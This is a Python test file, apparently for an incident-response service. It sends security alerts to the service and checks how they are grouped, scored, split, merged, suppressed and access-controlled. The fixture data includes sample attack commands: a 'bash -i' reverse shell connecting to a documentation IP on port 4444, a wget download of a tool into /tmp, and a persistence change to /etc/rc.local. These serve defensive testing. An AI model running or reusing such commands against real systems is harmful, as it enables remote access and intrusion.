@@ -1,0 +1,150 @@
+"""Incidents as others meet them: alerts are sent to a running service, and it says what to open first."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+from provenance.service import tokens
+from provenance.service.context import wall_ms
+from provenance.service.tokens import Scope
+from provenance.service.webhooks import SIGNATURE, verified
+from provenance.store.interface import Store
+from tests.provenance.incidents_of_alerts.receivers import receiving
+from tests.provenance.service.running import Running, serving, states, until
+
+SECRET = b"a secret of more than sixteen bytes"
+ATTACK: tuple[Mapping[str, Any], ...] = (
+    {
+        "title": "interactive shell connects out",
+        "severity": "critical",
+        "time": "2026-11-24T03:28:58.271Z",
+        "process": {"command": "bash -i"},
+        "network": {"remote_ip": "198.51.100.45", "remote_port": 4444},
+    },
+    {"title": "a tool is downloaded", "process": {"command": "wget -q http://203.0.113.61/3333 -O /tmp/3333"}},
+    {"title": "a start script was changed", "severity": "high", "file": {"path": "/etc/rc.local"}},
+)
+NOISE: Mapping[str, Any] = {"title": "a compiler on a server", "file": {"path": "/var/tmp/a6777.c"}}
+
+
+def token(store: Store) -> str:
+    return tokens.create(store.documents(), Scope, "all", wall_ms())
+
+
+def send(running: Running, alerts: tuple[Mapping[str, Any], ...], first: int = 0) -> list[str]:
+    ids = []
+    for number, alert in enumerate(alerts, first):
+        answer = running.client.post("/alerts", json={"source": "test", "id": str(number), "host": "web01", **alert})
+        assert answer.status_code == 202, answer.text
+        ids.append(str(answer.json()["alert"]))
+    return ids
+
+
+def settled(running: Running) -> None:
+    until(lambda: states(running.client).keys() <= {"done", "failed", "waiting"}, "alerts done")
+
+
+def test_alerts_become_incidents_that_are_told_merged_split_and_closed(seed: Store, tmp_path: Path) -> None:
+    secret = tmp_path / "secret"
+    secret.write_bytes(SECRET)
+    config = tmp_path / "config.toml"
+    with receiving() as receiver:
+        config.write_text(
+            f'[outgoing]\nsettle_s = 0\n[outgoing.webhooks.soc]\nurl = "{receiver.url}"\nsecret_file = "{secret}"\n'
+        )
+        where = str(tmp_path / "graph.db")
+        with serving(where, tmp_path, token(seed), {}, "--config", str(config)) as running:
+            _asked(running)
+            until(lambda: bool(receiver.got), "a webhook")
+    headers, body = receiver.got[0]
+    assert verified(SECRET, headers[SIGNATURE], body, wall_ms() / 1000)
+    assert json.loads(body)["format"] == "provenance-incident/1"
+
+
+def _asked(running: Running) -> None:
+    client = running.client
+    ids = send(running, (*ATTACK, NOISE))
+    settled(running)
+    assert states(client) == {"done": 4}
+    listed = client.get("/incidents").json()["incidents"]
+    assert [found["alerts"] for found in listed] == [3, 1]
+    first, other = (found["incident"] for found in listed)
+    assert {client.get(f"/alerts/{id}").json()["incident"] for id in ids[:3]} == {first}
+    assert client.get(f"/alerts/{ids[3]}").json()["incident"] == other
+
+    whole = client.get(f"/incidents/{first}").json()
+    assert whole["severity"] == "critical"
+    assert whole["score"] == listed[0]["score"] > listed[1]["score"]
+    assert "198.51.100.23" in whole["entries"][0]["text"]
+    told = " ".join(step["text"] for step in whole["chain"])
+    assert [text in told for text in ("shell.sh", "bash -i", "3333")] == [True] * 3
+    assert [step["time"] for step in whole["chain"]] == sorted(step["time"] for step in whole["chain"])
+
+    split = client.post(f"/incidents/{first}/split", json={"alerts": [ids[1]]}).json()["incidents"]
+    assert client.get(f"/alerts/{ids[1]}").json()["incident"] == split[1]
+    assert client.post(f"/alerts/{ids[1]}/retry").status_code == 202
+    settled(running)
+    assert client.get(f"/alerts/{ids[1]}").json()["incident"] == split[1]
+    merged = client.post(f"/incidents/{split[0]}/merge", json={"incidents": [split[1], other]}).json()["incident"]
+    assert client.get(f"/incidents/{other}").json()["incident"] == merged
+    assert len(client.get(f"/incidents/{merged}").json()["alerts"]) == 4
+
+    closed = client.patch(f"/incidents/{merged}", json={"state": "closed", "assignee": "ann", "note": "wiped"}).json()
+    assert (closed["state"], closed["assignee"], closed["notes"][0]["text"]) == ("closed", "ann", "wiped")
+    assert [found["incident"] for found in client.get("/incidents?state=closed").json()["incidents"]] == [merged]
+    for path, body, status in (
+        (f"/incidents/{merged}/split", {"alerts": ["x"]}, 422),
+        (f"/incidents/{merged}/split", {"alerts": [*ids]}, 422),
+        (f"/incidents/{merged}/merge", {"incidents": ["i0"]}, 404),
+        ("/incidents/i0/split", {"alerts": ["x"]}, 404),
+    ):
+        assert client.post(path, json=body).status_code == status, path
+    assert client.patch(f"/incidents/{merged}", json={"state": "gone"}).status_code == 400
+    assert client.get("/outgoing").json()["targets"][0]["target"] == "soc"
+
+
+def test_a_suppressed_alert_is_traced_counted_and_in_no_incident(seed: Store, tmp_path: Path) -> None:
+    with serving(str(tmp_path / "graph.db"), tmp_path, token(seed)) as running:
+        client = running.client
+        rule = {"conditions": {"title": "a compiler*"}, "owner": "build", "reason": "they compile here"}
+        made = client.post("/suppressions", json=rule | {"until": "2030-01-01T00:00:00Z"})
+        assert made.status_code == 201, made.text
+        id = made.json()["suppression"]
+        (alert,) = send(running, (NOISE,))
+        settled(running)
+        shown = client.get(f"/alerts/{alert}").json()
+        assert (shown["state"], shown["incident"], shown["suppressed"]) == ("done", None, id)
+        assert shown["backtrack"]["format"] == "provenance-trace/1"
+        assert client.get("/incidents").json()["incidents"] == []
+        listed = client.get("/suppressions").json()
+        assert (listed["suppressions"][0]["hidden"], listed["hidden"]) == (1, 1)
+        assert [found["alert"] for found in client.get("/suppressed", params={"rule": id}).json()["alerts"]] == [alert]
+        ended = client.patch(f"/suppressions/{id}", json={"until": "2001-01-01T00:00:00Z"}).json()
+        assert ended["state"] == "ended"
+        client.post(f"/alerts/{alert}/retry")
+        settled(running)
+        assert client.get(f"/alerts/{alert}").json()["incident"] is not None
+        assert client.delete(f"/suppressions/{id}").status_code == 200
+        assert client.post("/suppressions", json=rule).status_code == 422
+        assert client.post("/suppressions", content=b"[").status_code == 422
+
+
+def test_who_may_only_read_decides_nothing(seed: Store, tmp_path: Path) -> None:
+    reader = tokens.create(seed.documents(), [Scope.READ], "reader", wall_ms())
+    with serving(str(tmp_path / "graph.db"), tmp_path, reader) as running:
+        client = running.client
+        assert client.get("/incidents").status_code == 200
+        asked = [
+            client.patch("/incidents/i0", json={"state": "closed"}),
+            client.post("/incidents/i0/merge", json={"incidents": ["i1"]}),
+            client.post("/incidents/i0/split", json={"alerts": ["a"]}),
+            client.post("/suppressions", json={}),
+            client.patch("/suppressions/r0", json={}),
+            client.delete("/suppressions/r0"),
+            client.get("/outgoing"),
+        ]
+        assert [answer.status_code for answer in asked] == [403] * len(asked)
+        assert client.get("/incidents", headers={"Authorization": ""}).status_code == 401
